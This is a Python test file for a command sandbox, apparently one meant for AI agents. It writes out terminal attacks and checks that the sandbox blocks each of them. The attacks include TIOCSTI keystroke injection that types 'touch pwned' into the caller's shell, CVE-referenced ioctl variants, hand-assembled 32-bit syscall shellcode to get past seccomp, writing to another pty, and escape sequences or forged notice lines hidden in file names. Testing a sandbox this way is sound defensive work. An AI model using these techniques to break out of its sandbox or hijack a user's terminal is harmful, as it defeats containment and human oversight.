"""The terminal: nothing is typed into it, it is given back, and our messages cannot drive it."""

from __future__ import annotations

import fcntl
import json
import os
import termios
from typing import TYPE_CHECKING

import pytest

from escape.attack import Attack, Run, Scene, Trial, hide, trials

if TYPE_CHECKING:
    from collections.abc import Sequence

pytestmark = pytest.mark.kernel

# Stands for the shell from which the sandbox is called: leads the session, waits, and says what it
# finds in its terminal afterwards.
CALLER = """
import json, os, signal, sys, termios, tty
for number in (signal.SIGTTOU, signal.SIGTTIN, signal.SIGINT):
    signal.signal(number, signal.SIG_IGN)
before = termios.tcgetattr(0)
pid = os.fork()
if not pid:
    for number in (signal.SIGTTOU, signal.SIGTTIN, signal.SIGINT):
        signal.signal(number, signal.SIG_DFL)
    os.execvp(sys.argv[2], sys.argv[2:])
status = os.waitpid(pid, 0)[1]
found = {"code": os.waitstatus_to_exitcode(status), "typed": ""}
found["foreground"] = os.tcgetpgrp(0) == os.getpgrp()
found["modes"] = termios.tcgetattr(0) == before
os.tcsetpgrp(0, os.getpgrp())
tty.setraw(0, termios.TCSANOW)
os.set_blocking(0, False)
try: found["typed"] = os.read(0, 65536).decode(errors="replace")
except BlockingIOError: pass
json.dump(found, open(sys.argv[1], "w"))
"""
# The kernel refuses TIOCSTI by itself where dev.tty.legacy_tiocsti is 0, with EIO. The filter's
# answer is EPERM: any other means that the request came through.
TYPE = """
import ctypes, errno, os
libc = ctypes.CDLL(None, use_errno=True)
def type_into(fd, request):
    for letter in b"touch pwned\\n":
        if libc.ioctl(fd, ctypes.c_ulong(request), ctypes.byref(ctypes.c_char(letter))):
            code = ctypes.get_errno()
            print("refused" if code == errno.EPERM else f"came through: {errno.errorcode[code]}")
            return
"""
# The same request by the 32-bit system call table, which has other numbers: ioctl is 54 there.
FOREIGN = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
# PROT_READ|WRITE|EXEC, MAP_PRIVATE|MAP_ANONYMOUS|MAP_32BIT
page = libc.mmap(None, 4096, 7, 0x62, -1, 0)
fd = os.open("/dev/tty", os.O_RDWR)
code = bytes.fromhex("53b836000000bb") + fd.to_bytes(4, "little") + bytes.fromhex("b912540000ba")
code += (page + 2048).to_bytes(4, "little") + bytes.fromhex("cd805bc3")
ctypes.memmove(page, code, len(code))
for letter in b"touch pwned\\n":
    ctypes.memset(page + 2048, letter, 1)
    if ctypes.CFUNCTYPE(ctypes.c_int)(page)() != 0:
        print("came through")
        break
"""
PASTE = """
import errno, fcntl, os
try: fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x541c, b"\\2")
except OSError as error:
    print("refused" if error.errno == errno.EPERM else "came through")
"""
FOREGROUND = """
import os, signal
signal.signal(signal.SIGTTOU, signal.SIG_IGN)
if os.fork() == 0:
    os.setpgid(0, 0)
    os.tcsetpgrp(os.open("/dev/tty", os.O_RDWR), os.getpgrp())
    os._exit(0)
os.wait()
os.kill(os.getpid(), 9)
"""


def in_a_terminal(scene: Scene, argv: Sequence[str]) -> Run:
    """Run a sandbox from a shell-like caller that has a terminal of its own."""
    master, slave = os.openpty()
    os.fchown(slave, scene.runner.uid, scene.runner.gid)
    report = scene.outside_dir / f"terminal-{len(scene.codes)}"
    caller = scene.popen(
        [scene.runner.python, "-I", "-c", CALLER, str(report), *argv],
        stdin=slave, stdout=slave, stderr=slave,
        preexec_fn=lambda: fcntl.ioctl(0, termios.TIOCSCTTY, 0),
    )  # fmt: skip
    os.close(slave)
    text = b""
    try:
        # Ends with EIO when the last process that has the terminal is gone.
        while chunk := os.read(master, 65536):
            text += chunk
    except OSError:
        pass
    finally:
        os.close(master)
    caller.wait()
    found = json.loads(report.read_text())
    scene.kept.update(found)
    return Run(code=found["code"], text=text.decode(errors="replace"))


def typed(scene: Scene) -> bool:
    """Whether the caller's shell would now read a command, or the kernel was asked to type it."""
    return "touch pwned" in scene.kept["typed"] or "came through" in scene.output


def another_terminal(scene: Scene) -> None:
    """The user has a second window open."""
    master, slave = os.openpty()
    os.fchown(slave, scene.runner.uid, scene.runner.gid)
    os.set_blocking(master, False)
    scene.facts["other"] = os.ttyname(slave)
    scene.kept["master"] = master
    scene.cleanup.callback(os.close, master)
    scene.cleanup.callback(os.close, slave)


def seen_in_another_terminal(scene: Scene) -> bool:
    try:
        return b"evil" in os.read(scene.kept["master"], 65536)
    except BlockingIOError:
        return False


def drives_the_terminal(scene: Scene) -> bool:
    """Whether a name that a sandbox made came out as an escape sequence."""
    return "\033]0;evil" in scene.output


def adds_a_line(scene: Scene) -> bool:
    """Whether a name that a sandbox made looks like a message of ours."""
    return "\nagent-sandbox: notice: evil" in scene.output


TYPING: tuple[Attack, ...] = (
    Attack(
        name="type-into-standard-input", invariant=6, what="TIOCSTI", drive=in_a_terminal,
        python=True, script=TYPE + "type_into(0, 0x5412)", escaped=typed, without="seccomp",
    ),
    Attack(
        name="type-into-the-controlling-terminal", invariant=6, what="by way of /dev/tty",
        drive=in_a_terminal, python=True,
        script=TYPE + "type_into(os.open('/dev/tty', os.O_RDWR), 0x5412)", escaped=typed,
        without="seccomp",
    ),
    Attack(
        name="type-with-high-bits", invariant=6, what="the kernel drops them (CVE-2019-10063)",
        drive=in_a_terminal, python=True,
        script=TYPE + "type_into(0, 0x100005412); type_into(1, 0xdeadbeef00005412)",
        escaped=typed, without="seccomp",
    ),
    Attack(
        name="paste-from-the-console", invariant=6, what="TIOCLINUX (CVE-2023-28100)",
        drive=in_a_terminal, python=True, script=PASTE, escaped=typed, without="seccomp",
    ),
    Attack(
        name="write-to-another-terminal", invariant=6, what="/dev/pts of the host",
        setup=another_terminal, script="echo evil > $other", escaped=seen_in_another_terminal,
        without="devices of its own",
    ),
)  # fmt: skip
if os.uname().machine == "x86_64":
    TYPING += (
        Attack(
            name="type-by-foreign-calls", invariant=6, what="int 0x80: other numbers",
            drive=in_a_terminal, python=True, script=FOREIGN, escaped=typed, without="seccomp",
        ),
    )  # fmt: skip

KEEPING = (
    Attack(
        name="leave-the-terminal-raw", invariant=6, what="raw mode, then a sudden end",
        drive=in_a_terminal, script="stty raw -echo </dev/tty; kill -9 $$",
        escaped=lambda s: not s.kept["modes"], without="terminal taken back",
    ),
    Attack(
        name="keep-the-foreground", invariant=6, what="a dead group has the keyboard",
        drive=in_a_terminal, python=True, script=FOREGROUND,
        escaped=lambda s: not s.kept["foreground"], without="terminal taken back",
    ),
    Attack(
        name="escape-sequence-in-a-name", invariant=11, what="our message about it",
        setup=hide("~/private/key"),
        script="ln -s $home/private \"$(printf 'l\\033]0;evil\\007')\"", then="true",
        then_flags=("--ro", "l*"), may_stop=(2,), escaped=drives_the_terminal,
        without="printable messages",
    ),
    Attack(
        name="line-in-a-name", invariant=11, what="a message of its own in ours",
        setup=hide("~/private/key"),
        script="ln -s $home/private \"$(printf 'l\\nagent-sandbox: notice: evil')\"", then="true",
        then_flags=("--ro", "l*"), may_stop=(2,), escaped=adds_a_line,
        without="printable messages",
    ),
    Attack(
        name="escape-sequence-in-a-note", invariant=11, what="what was found after the run",
        script="d=$(printf 'd\\033]0;evil\\007'); mkdir -p \"$d\"; git init -q \"$d\";"
        ' git -C "$d" config core.fsmonitor evil',
        escaped=drives_the_terminal, without="printable messages",
    ),
    Attack(
        name="escape-sequence-in-debug", invariant=11, what="--debug lists a name",
        script="mkdir \"$(printf 'd\\033]0;evil\\007')\"", then="true",
        then_flags=("--debug", "--ro", "d*"), escaped=drives_the_terminal,
        without="printable messages",
    ),
)  # fmt: skip

ATTACKS = TYPING + KEEPING


@trials(TYPING)
def test_cannot_type_into_a_terminal(trial: Trial) -> None:
    trial.run()


@trials(KEEPING)
def test_cannot_keep_or_drive_the_terminal(trial: Trial) -> None:
    trial.run()
